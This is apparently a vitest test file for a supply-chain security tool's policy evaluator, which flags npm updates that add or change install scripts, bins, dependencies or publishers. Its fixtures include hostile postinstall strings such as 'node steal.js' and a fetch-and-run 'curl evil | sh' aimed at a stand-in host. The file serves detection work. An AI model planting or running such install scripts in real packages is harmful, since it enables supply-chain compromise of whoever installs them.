// Change alerts: an update compared with the version it replaces. Each kind follows changeAlerts
// (defaults and rules), names what changed, and can be waived by an exception; the unsigned views can
// only add a finding (a version has what any view gives it, its predecessor what every view gives it).
import { describe, expect, it } from 'vitest';
import { emptyLock } from '../../../lib/lock/index.js';
import { builtInPolicy, evaluate, type Policy } from '../../../lib/policy/index.js';
import type { ReleaseView, VersionChange } from '../../../lib/tree/version-change.js';
import { NOW, evidence, policy } from './builders.js';

const T0 = new Date('2026-11-01T00:00:00Z');
const hoursAfter = (h: number) => new Date(T0.getTime() + h * 3_600_000);

const view = (source: string, fields: Omit<ReleaseView, 'source'> = {}): ReleaseView => ({ source, bins: [], dependencies: [], ...fields });

/** widget@1.1.0 replacing 1.0.0 from package-lock.json; quick-release off unless a test gives times. */
function change(before: ReleaseView[], after: ReleaseView[], scripts: VersionChange['scripts'] = { runs: true, approved: false }): VersionChange {
  return { name: 'widget', version: '1.1.0', from: '1.0.0', fromSource: 'package-lock.json', before, after, scripts };
}

function judge(changes: VersionChange[], p: Policy = policy({})) {
  const report = evaluate({ evidence: [evidence('widget', '1.1.0')], nonRegistry: [], registries: [], policy: p, lock: emptyLock(), now: NOW, changes });
  return report.verdicts[0]!;
}
const codes = (v: ReturnType<typeof judge>) => v.findings.map((f) => [f.code, f.severity, f.rule]);

describe('evaluate: install-script change alerts', () => {
  it('denies INSTALL_SCRIPT_ADDED by default when the new version has a postinstall the replaced one lacked, naming it', () => {
    const v = judge([
      change(
        [view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: {} })],
        [view('verified tarball', { scripts: { postinstall: 'node steal.js' } })],
        { runs: true, approved: true },
      ),
    ]);
    expect(codes(v)).toEqual([['INSTALL_SCRIPT_ADDED', 'deny', 'defaults.changeAlerts.installScripts']]);
    expect(v.findings[0]!.message).toContain('postinstall "node steal.js"');
    expect(v.findings[0]!.message).toContain('allowScripts approves');
    expect(v.findings[0]!.message).toContain('replaces 1.0.0 (package-lock.json)');
    expect(v.findings[0]!.hint).toContain('vouch approve widget@1.1.0');
    expect(v.decision).toBe('deny');
  });

  it('names the implicit node-gyp rebuild of a binding.gyp', () => {
    const v = judge([
      change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { install: 'node-gyp rebuild' } })]),
    ]);
    expect(v.findings[0]!.code).toBe('INSTALL_SCRIPT_ADDED');
    expect(v.findings[0]!.message).toContain('binding.gyp');
  });

  it('only warns when npm will not run the script (allowScripts denies it, or strict-allow-scripts stops the install)', () => {
    const v = judge([
      change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { postinstall: 'x' } })], {
        runs: false,
        approved: false,
      }),
    ]);
    expect(codes(v)).toEqual([['INSTALL_SCRIPT_ADDED', 'warn', 'defaults.changeAlerts.installScripts']]);
  });

  it('counts the predecessor as script-free when any view says so (a packument claiming the old version had the script relaxes nothing)', () => {
    const v = judge([
      change(
        [view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: { postinstall: 'x' } })],
        [view('packument', { scripts: { postinstall: 'x' } })],
      ),
    ]);
    expect(v.findings.map((f) => f.code)).toEqual(['INSTALL_SCRIPT_ADDED']);
  });

  it('denies INSTALL_SCRIPT_CHANGED when a script text differs, also when only the tarball shows the new text', () => {
    const before = [view('package-lock.json', { hasInstallScript: true }), view('packument', { scripts: { postinstall: 'node build.js' } })];
    const v = judge([
      change(before, [
        view('packument', { scripts: { postinstall: 'node build.js' } }),
        view('verified tarball', { scripts: { postinstall: 'curl evil | sh' } }),
      ]),
    ]);
    expect(codes(v)).toEqual([['INSTALL_SCRIPT_CHANGED', 'deny', 'defaults.changeAlerts.installScripts']]);
    expect(v.findings[0]!.message).toContain('postinstall was "node build.js", now "curl evil | sh"');
    expect(judge([change(before, [view('verified tarball', { scripts: { postinstall: 'node build.js' } })])]).findings).toEqual([]);
  });

  it('says nothing of a package that has no install script, or about which nothing is known of the predecessor', () => {
    expect(judge([change([view('packument', { scripts: {} })], [view('verified tarball', { scripts: {} })])]).findings).toEqual([]);
    expect(judge([change([], [view('verified tarball', { scripts: { postinstall: 'x' } })])]).findings).toEqual([]);
  });
});

describe('evaluate: bins, dependencies, publisher and quick-release alerts', () => {
  it('warns BIN_ADDED and DEPENDENCIES_ADDED by default, naming only what is new', () => {
    const v = judge([
      change(
        [view('package-lock.json', { bins: ['widget'], dependencies: ['a'] })],
        [view('verified tarball', { bins: ['widget', 'tsc'], dependencies: ['a', 'b', 'c'] })],
      ),
    ]);
    expect(codes(v)).toEqual([
      ['BIN_ADDED', 'warn', 'defaults.changeAlerts.bins'],
      ['DEPENDENCIES_ADDED', 'warn', 'defaults.changeAlerts.dependencies'],
    ]);
    expect(v.findings[0]!.message).toContain(': tsc');
    expect(v.findings[1]!.message).toContain('2 dependencies: b, c');
    expect(v.decision).toBe('warn');
  });

  it('counts a bin or dependency as old only when every view of the predecessor has it', () => {
    const v = judge([
      change(
        [view('package-lock.json', { dependencies: ['a'] }), view('packument', { dependencies: ['a', 'evil'] })],
        [view('packument', { dependencies: ['a', 'evil'] })],
      ),
    ]);
    expect(v.findings.map((f) => [f.code, f.message.endsWith(': evil')])).toEqual([['DEPENDENCIES_ADDED', true]]);
  });

  it('warns PUBLISHER_CHANGED for another npm user, and for a move away from trusted publishing', () => {
    const user = judge([
      change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'mallory', trusted: false } })]),
    ]);
    expect(codes(user)).toEqual([['PUBLISHER_CHANGED', 'warn', 'defaults.changeAlerts.publisher']]);
    expect(user.findings[0]!.message).toContain('"mallory"');
    const method = judge([
      change(
        [view('packument', { publisher: { name: 'GitHub Actions', trusted: true } })],
        [view('packument', { publisher: { name: 'GitHub Actions', trusted: false } })],
      ),
    ]);
    expect(method.findings[0]!.message).toContain('trusted publishing');
    const adopted = judge([
      change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'alice', trusted: true } })]),
    ]);
    expect(adopted.findings).toEqual([]);
  });

  it('warns QUICK_RELEASE within quickReleaseHours (24 by default) of the predecessor, not after, not for an older release', () => {
    const at = (h: number) => judge([change([view('packument', { publishedAt: T0 })], [view('packument', { publishedAt: hoursAfter(h) })])]);
    expect(codes(at(2))).toEqual([['QUICK_RELEASE', 'warn', 'defaults.changeAlerts.quickRelease']]);
    expect(at(2).findings[0]!.message).toContain('2 hours after 1.0.0');
    expect(at(25).findings).toEqual([]);
    expect(at(-5).findings).toEqual([]);
    const wide = policy({ defaults: { changeAlerts: { quickReleaseHours: 48, quickRelease: 'deny' } } });
    expect(codes(judge([change([view('packument', { publishedAt: T0 })], [view('packument', { publishedAt: hoursAfter(25) })])], wide))).toEqual([
      ['QUICK_RELEASE', 'deny', 'defaults.changeAlerts.quickRelease'],
    ]);
  });
});

describe('evaluate: change-alert settings', () => {
  const scripted = () =>
    change([view('package-lock.json', { hasInstallScript: false, bins: [] })], [view('verified tarball', { scripts: { postinstall: 'x' }, bins: ['w'] })]);

  it('the built-in policy has the same defaults as a policy file', () => {
    const v = judge([scripted()], builtInPolicy());
    expect(codes(v)).toEqual([
      ['INSTALL_SCRIPT_ADDED', 'deny', 'default.changeAlerts.installScripts'],
      ['BIN_ADDED', 'warn', 'default.changeAlerts.bins'],
    ]);
  });

  it('follows the first matching rule that sets changeAlerts, its missing fields from defaults; "off" turns a kind off', () => {
    const p = policy({
      defaults: { changeAlerts: { bins: 'deny' } },
      rules: [
        { packages: 'other', changeAlerts: { installScripts: 'off' } },
        { packages: 'widget', changeAlerts: { installScripts: 'warn' } },
      ],
    });
    expect(codes(judge([scripted()], p))).toEqual([
      ['INSTALL_SCRIPT_ADDED', 'warn', 'rules[1].changeAlerts.installScripts'],
      ['BIN_ADDED', 'deny', 'defaults.changeAlerts.bins'],
    ]);
    const off = policy({ rules: [{ packages: 'widget', changeAlerts: { installScripts: 'off', bins: 'off' } }] });
    expect(judge([scripted()], off).findings).toEqual([]);
  });

  it('an exception waives a change alert (what vouch approve records)', () => {
    const p = policy({
      exceptions: { widget: [{ versions: '1.1.0', allow: ['INSTALL_SCRIPT_ADDED'], reason: 'reviewed', approvedBy: 'jane', expires: '2027-06-01' }] },
    });
    const v = judge([scripted()], p);
    expect(v.decision).toBe('warn');
    expect(v.waived?.map((w) => [w.code, w.waivedBy])).toEqual([['INSTALL_SCRIPT_ADDED', 'exceptions.widget[0]']]);
  });

  it('rejects a mode other than deny, warn or off', () => {
    expect(() => policy({ defaults: { changeAlerts: { bins: 'require' } } })).toThrow();
    expect(() => policy({ defaults: { changeAlerts: { quickReleaseHours: -1 } } })).toThrow();
  });
});
